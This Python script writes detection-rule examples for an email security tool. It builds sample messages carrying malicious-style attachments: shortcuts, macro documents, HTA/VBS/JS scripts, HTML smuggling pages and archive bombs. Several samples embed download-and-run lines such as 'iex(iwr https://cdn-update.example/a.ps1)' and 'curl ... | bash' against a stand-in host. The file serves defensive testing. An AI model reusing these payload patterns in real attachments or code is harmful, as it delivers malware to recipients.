"""Write the `[examples]` of the attachment rules (src/keiho/rules/mail/attach-*.toml).

Each example is a small RFC 5322 message whose attachments are real files built by
tests/attachment_builders.py: shortcuts, ISO images, Office documents with VBA projects,
encrypted zips and 7z archives, smuggling pages. Everything in a rule file before its
`[examples]` table is kept; the table is rewritten.

    .venv/bin/python scripts/make_attachment_examples.py

Examples with 7z archives and ISO images differ on every run (random AES initialisation
vectors, creation times); the rest is byte-for-byte reproducible.
"""

from __future__ import annotations

import bz2
import hashlib
import io
import re
import sys
from collections.abc import Callable
from pathlib import Path

import py7zr

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))

from attachment_builders import (
    ELF,
    JPEG,
    MACHO,
    PDF,
    build_docx,
    build_encrypted_zip,
    build_iso,
    build_lnk,
    build_pe,
    build_vba_ole,
    build_word97_with_macro,
    build_xlsm_with_macrosheet,
    build_zip,
    mime_message,
    relationship,
)

RULES = ROOT / "src" / "keiho" / "rules" / "mail"
MAX_EXAMPLE_BYTES = 6144
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
MACRO = 'Sub AutoOpen()\n    Shell "powershell -nop -w hidden -c iex(iwr https://cdn-update.example/a.ps1)"\nEnd Sub\n'
# Bytes a feed might list; the intel-hash examples give its hash as an indicator.
TOOL = b"keiho example tool: not malware, only a hash an example feed lists\n"

Message = str
Examples = tuple[list[Message], list[Message], str]  # positives, negatives, extra TOML lines


def sevenzip(files: dict[str, bytes], password: str | None = None, encrypt_names: bool = False) -> bytes:
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", password=password, header_encryption=encrypt_names) as archive:
        for name, data in files.items():
            archive.writestr(data, name)
    return out.getvalue()


def shortcut() -> bytes:
    return build_lnk(
        POWERSHELL,
        "-w hidden -nop -c \"iwr https://cdn-update.example/p.ps1 | iex\"",
        icon=r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        working_dir=r"%TEMP%",
    )


def msg(subject: str, body: str, *attachments: tuple[str, str, bytes]) -> Message:
    return mime_message(subject, body, attachments)


ZIP = "application/zip"
BIN = "application/octet-stream"


def lnk() -> Examples:
    return (
        [
            msg("Job description", "Please review the attached job description before our call.", ("Job_Description.lnk", BIN, shortcut())),
            msg("Offer letter", "Documents attached.", ("Documents.zip", ZIP, build_zip([("Documents/Offer_Letter.pdf.lnk", shortcut())]))),
        ],
        [
            msg("Job description", "Please review the attached job description.", ("Job_Description.pdf", "application/pdf", PDF)),
            msg("Contracts", "Both contracts attached.", ("Contracts.zip", ZIP, build_zip([("a/contract-1.pdf", PDF), ("a/contract-2.pdf", PDF)]))),
        ],
        "",
    )


def disk_image() -> Examples:
    iso = build_iso({"Invoice_0603.lnk": shortcut(), "readme.txt": b"Open Invoice_0603 to view.\r\n"})
    return (
        [
            msg("Invoice 0603", "Invoice attached.", ("Invoice_0603.zip", ZIP, build_zip([("Invoice_0603.iso", iso)]))),
            msg("Backup", "Disk attached.", ("backup.vhdx", BIN, b"vhdxfile" + bytes(1016))),
        ],
        [
            msg("Invoice 0603", "Invoice attached.", ("Invoice_0603.pdf", "application/pdf", PDF)),
            msg("Photos", "From the offsite.", ("photos.zip", ZIP, build_zip([("img1.jpg", JPEG), ("img2.jpg", JPEG)]))),
        ],
        "",
    )


def executable() -> Examples:
    return (
        [
            msg("Trading tool", "Install this to join the beta.", ("TradingTool_Setup.exe", BIN, build_pe())),
            msg("SDK update", "Run sdk/update on the node.", ("kitsune-sdk-update.zip", ZIP, build_zip([("sdk/update", ELF)]))),
        ],
        [
            msg("Photo", "Team photo attached.", ("photo.jpg", "image/jpeg", JPEG)),
            msg("Notes", "Meeting notes attached.", ("notes.txt", "text/plain", b"Agenda:\r\n1. Q3 numbers\r\n")),
        ],
        "",
    )


def script() -> Examples:
    hta = b'<html><head><hta:application id="x" windowstate="minimize"/><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w hidden -c iex(iwr https://cdn-update.example/a)"</script></head></html>'
    js = b'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden -enc SQBFAFgA",0);'
    vbs = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "mshta https://cdn-update.example/a.hta", 0\r\n'
    return (
        [
            msg("Invoice", "Invoice attached.", ("Invoice.hta", "application/hta", hta)),
            msg("Statement", "Your statement.", ("statement.zip", ZIP, build_zip([("statement.js", js)]))),
            msg("Policy update", "Please read.", ("Policy_Update.vbs", "text/plain", vbs)),
        ],
        [
            msg("Styles", "Web assets.", ("styles.css", "text/css", b"body { color: #333 }\n"), ("data.json", "application/json", b'{"q": 3}\n')),
            msg("Meeting", "Invitation.", ("meeting.ics", "text/calendar", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n")),
        ],
        "",
    )


def macos() -> Examples:
    bundle = build_zip([("TradePro.app/Contents/Info.plist", b'<?xml version="1.0"?><plist version="1.0"><dict/></plist>'), ("TradePro.app/Contents/MacOS/TradePro", MACHO)])
    return (
        [
            msg("TradePro beta", "Unzip and open TradePro.", ("TradePro.zip", ZIP, bundle)),
            msg("Interview tool", "Install before the interview.", ("Interview_Tool.pkg", BIN, b"xar!\x00\x1c\x00\x01" + bytes(120))),
            msg("Setup", "Double-click to set up.", ("setup.command", BIN, b"#!/bin/bash\ncurl -s https://cdn-update.example/i.sh | bash\n")),
        ],
        [
            msg("Screenshot", "See attached.", ("screenshot.png", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(40))),
            msg("Release notes", "Notes attached.", ("release-notes.pdf", "application/pdf", PDF)),
        ],
        "",
    )


def office_macro() -> Examples:
    return (
        [
            msg("Invoice", "Enable editing to view the invoice.", ("Invoice.docm", "application/vnd.ms-word.document.macroEnabled.12", build_docx(vba=build_vba_ole(MACRO)))),
            msg("Budget", "Budget attached.", ("Budget.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", build_xlsm_with_macrosheet())),
            msg("Order", "Order form attached.", ("Order.zip", ZIP, build_zip([("Order.doc", build_word97_with_macro(MACRO.replace("AutoOpen", "Document_Open")))]))),
        ],
        [
            msg("Report", "Report attached.", ("Report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", build_docx())),
        ],
        "",
    )


def remote_template() -> Examples:
    template = relationship("rId1", "attachedTemplate", "https://cdn-update.example/templates/Normal.dotm", external=True)
    follina = relationship("rId9", "oleObject", "mhtml:https://cdn-update.example/q.html!x-usc:https://cdn-update.example/q.html", external=True)
    local = relationship("rId1", "attachedTemplate", "file:///C:\\Users\\emily\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotm", external=True)
    link = relationship("rId5", "hyperlink", "https://www.kitsune-ex.co.jp/", external=True)
    docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    return (
        [
            msg("Proposal", "Proposal attached.", ("Proposal.docx", docx, build_docx(settings_rels=[template]))),
            msg("Quote", "Quote attached.", ("Quote.docx", docx, build_docx(document_rels=[follina]))),
        ],
        [
            msg("Letter", "Letter attached.", ("Letter.docx", docx, build_docx(settings_rels=[local], document_rels=[link]))),
        ],
        "",
    )


def smuggling() -> Examples:
    payload = build_zip([("Remittance.iso", b"CD001" * 60)])
    page = (
        b"<html><body><p>Loading your document...</p><script>"
        b"var d='" + _b64(payload) + b"';"
        b"var b=atob(d);var u=new Uint8Array(b.length);for(var i=0;i<b.length;i++){u[i]=b.charCodeAt(i);}"
        b"var f=new Blob([u],{type:'application/octet-stream'});var a=document.createElement('a');"
        b"a.href=URL.createObjectURL(f);a.download='Remittance.zip';document.body.appendChild(a);a.click();"
        b"</script></body></html>"
    )
    data_link = b'<html><body><a href="data:application/octet-stream;base64,' + _b64(build_pe() + bytes(200)) + b'" download="Statement.exe">Download statement</a></body></html>'
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA['
        b"var f=new Blob([atob('UEsDBBQAAAAAAA==')],{type:'application/zip'});"
        b"if(navigator.msSaveOrOpenBlob){navigator.msSaveOrOpenBlob(f,'invoice.zip');}"
        b"]]></script></svg>"
    )
    newsletter = b'<html><body><h1>Kitsune News</h1><p>Read <a href="https://www.kitsune-ex.co.jp/news">the update</a>.</p><img src="data:image/png;base64,' + _b64(b"\x89PNG\r\n\x1a\n" + bytes(300)) + b'"></body></html>'
    chart = b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="20"><rect width="60" height="20" fill="#36c"/></svg>'
    return (
        [
            msg("Remittance", "Remittance advice attached.", ("Remittance.html", "text/html", page)),
            msg("Statement", "Statement attached.", ("Statement.html", "text/html", data_link)),
            msg("Invoice", "Invoice attached.", ("invoice.svg", "image/svg+xml", svg)),
        ],
        [
            msg("Newsletter", "Newsletter attached.", ("newsletter.html", "text/html", newsletter)),
            msg("Chart", "Chart attached.", ("chart.svg", "image/svg+xml", chart)),
        ],
        "",
    )


def double_extension() -> Examples:
    return (
        [
            msg("Invoice", "Invoice attached.", ("Invoice_0603.pdf.exe", BIN, build_pe())),
            msg("Scan", "Scan attached.", ("scan_2024.jpg.js", BIN, b'WScript.CreateObject("WScript.Shell").Run("cmd /c calc");')),
        ],
        [
            msg("Invoice", "Invoice attached.", ("invoice.pdf.zip", ZIP, build_zip([("invoice.pdf", PDF)]))),
            msg("Report", "Report attached.", ("report.v2.final.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", build_docx())),
        ],
        "",
    )


def bidi_name() -> Examples:
    return (
        [
            msg("Invoice", "Invoice attached.", ("Invoice\u202efdp.exe", BIN, build_pe())),
            msg("Contract", "Contract attached.", ("Contract.pdf" + " " * 24 + ".js", BIN, b'WScript.Echo("x");')),
            msg("Payment", "Payment advice.", ("advice.zip", ZIP, build_zip([("Pay\u200bment_advice.pdf", PDF)]))),
        ],
        [
            msg("請求書", "請求書を添付します。", ("請求書_2024年6月.pdf", "application/pdf", PDF)),
            msg("CV", "My CV.", ("résumé (final).pdf", "application/pdf", PDF)),
        ],
        "",
    )


def type_mismatch() -> Examples:
    return (
        [
            msg("Invoice", "Invoice attached.", ("Invoice.pdf", "application/pdf", build_zip([("Invoice.txt", b"see attached\r\n")]))),
            msg("Photo", "Photo attached.", ("photo.jpg", "image/jpeg", build_pe())),
        ],
        [
            msg("Report", "Report attached.", ("report.doc", "application/msword", build_docx())),
            msg("Contract", "Contract attached.", ("contract.pdf", "application/pdf", PDF)),
        ],
        "",
    )


def encrypted() -> Examples:
    return (
        [
            msg("Documents", "The password follows in a separate mail.", ("Documents.zip", ZIP, build_encrypted_zip([("Documents/summary.pdf", PDF)], "Kx7pQ2mZ"))),
            msg("Archive", "Archive attached.", ("Archive.7z", "application/x-7z-compressed", sevenzip({"summary.pdf": PDF}, "Kx7pQ2mZ", encrypt_names=True))),
        ],
        [
            msg("Documents", "Documents attached.", ("Documents.zip", ZIP, build_zip([("Documents/summary.pdf", PDF)]))),
        ],
        "",
    )


def password_in_body() -> Examples:
    return (
        [
            msg("請求書の送付", "請求書を送付いたします。\n添付ファイルのパスワード：Kx7pQ2mZ\nよろしくお願いいたします。", ("請求書.zip", ZIP, build_encrypted_zip([("請求書.pdf", PDF)], "Kx7pQ2mZ"))),
            msg("Invoice", "Invoice attached.\nPassword: inv-2024!\nRegards", ("Invoice.7z", "application/x-7z-compressed", sevenzip({"Invoice.pdf": PDF}, "inv-2024!"))),
            msg("Facture", "Veuillez trouver la facture ci-jointe (mot de passe : Facture2024).", ("Facture.zip", ZIP, build_encrypted_zip([("Facture.pdf", PDF)], "Facture2024"))),
        ],
        [
            msg("Documents", "Password: wrongpass1", ("Documents.zip", ZIP, build_encrypted_zip([("summary.pdf", PDF)], "Kx7pQ2mZ"))),
            msg("Account", "Your temporary password: abc12345\nChange it after logging in.", ("terms.pdf", "application/pdf", PDF)),
        ],
        "",
    )


def nested() -> Examples:
    return (
        [
            msg("Bundle", "Files attached.", ("bundle.zip", ZIP, build_zip([("inner.zip", build_zip([("a.pdf", PDF)]))]))),
            msg("Photos", "Photos attached.", ("photos.zip", ZIP, build_zip([("photos.rar", b"Rar!\x1a\x07\x01\x00" + bytes(64))]))),
        ],
        [
            msg("Reports", "Reports attached.", ("reports.zip", ZIP, build_zip([("q2.docx", build_docx()), ("q2.pdf", PDF)]))),
            msg("Logs", "Logs attached.", ("logs.tar.gz", "application/gzip", _tar_gz({"logs/app.log": b"ok\n" * 50}))),
        ],
        "",
    )


def bomb() -> Examples:
    zeros = bytes(8 * 2**20)
    deep = build_zip([("a.pdf", PDF)])
    for level in range(6):
        deep = build_zip([(f"level{level}.zip", deep)])
    return (
        [
            msg("Logs", "Logs attached.", ("logs.bz2", "application/x-bzip2", bz2.compress(zeros, 9))),
            msg("Data", "Data attached.", ("data.zip", ZIP, build_zip([("data.zip", build_zip([("data.bin", zeros)]))]))),
            msg("Archive", "Archive attached.", ("archive.zip", ZIP, deep)),
        ],
        [
            msg("Logs", "Logs attached.", ("logs.zip", ZIP, build_zip([("disk.img.part", bytes(2 * 2**20))]))),
        ],
        "",
    )


def intel_hash() -> Examples:
    digest = hashlib.sha256(TOOL).hexdigest()
    extra = (
        "# The index the examples run with: the positives' file hash as a hostile indicator.\n"
        f'intel = [{{ type = "sha256", value = "{digest}", source = "example-feed", actor = "Lazarus Group", role = "hostile" }}]\n'
    )
    return (
        [
            msg("Tool", "Tool attached.", ("tool.bin", BIN, TOOL)),
            msg("Tool", "Tool attached.", ("tool.zip", ZIP, build_zip([("bin/tool", TOOL)]))),
        ],
        [
            msg("Tool", "Tool attached.", ("tool.bin", BIN, TOOL + b"\n")),
        ],
        extra,
    )


def unreadable() -> Examples:
    whole = build_zip([("report.pdf", PDF * 20)])
    return (
        [
            msg("Report", "Report attached.", ("report.zip", ZIP, whole[: len(whole) // 2])),
            msg("Data", "Data attached.", ("data.7z", "application/x-7z-compressed", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(56))),
        ],
        [
            msg("Report", "Report attached.", ("report.zip", ZIP, whole)),
        ],
        "",
    )


def _b64(data: bytes) -> bytes:
    import base64

    return base64.b64encode(data)


def _tar_gz(files: dict[str, bytes]) -> bytes:
    import gzip
    import tarfile

    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1717372800
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)


BUILDERS: dict[str, Callable[[], Examples]] = {
    "attach-lnk": lnk,
    "attach-disk-image": disk_image,
    "attach-executable": executable,
    "attach-script": script,
    "attach-macos-installer": macos,
    "attach-office-macro": office_macro,
    "attach-office-remote-template": remote_template,
    "attach-html-smuggling": smuggling,
    "attach-double-extension": double_extension,
    "attach-bidi-name": bidi_name,
    "attach-type-mismatch": type_mismatch,
    "attach-encrypted-archive": encrypted,
    "attach-password-in-body": password_in_body,
    "attach-nested-archive": nested,
    "attach-archive-bomb": bomb,
    "attach-intel-hash": intel_hash,
    "attach-unreadable": unreadable,
}


def examples_toml(positives: list[Message], negatives: list[Message], extra: str) -> str:
    def block(messages: list[Message]) -> str:
        for message in messages:
            if "'''" in message or len(message.encode("utf-8")) > MAX_EXAMPLE_BYTES:
                raise SystemExit(f"example too large or not quotable:\n{message[:300]}")
        return "".join(f"'''\n{message}''',\n" for message in messages)

    return f"[examples]\n{extra}positive = [\n{block(positives)}]\nnegative = [\n{block(negatives)}]\n"


def main() -> int:
    changed = []
    for name, build in BUILDERS.items():
        path = RULES / f"{name}.toml"
        text = path.read_text("utf-8")
        head = re.split(r"^\[examples\]\s*$", text, maxsplit=1, flags=re.MULTILINE)[0].rstrip() + "\n\n"
        updated = head + examples_toml(*build())
        if updated != text:
            changed.append(name)
            path.write_text(updated, "utf-8")
    print(f"rewritten: {', '.join(changed) or 'none'}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
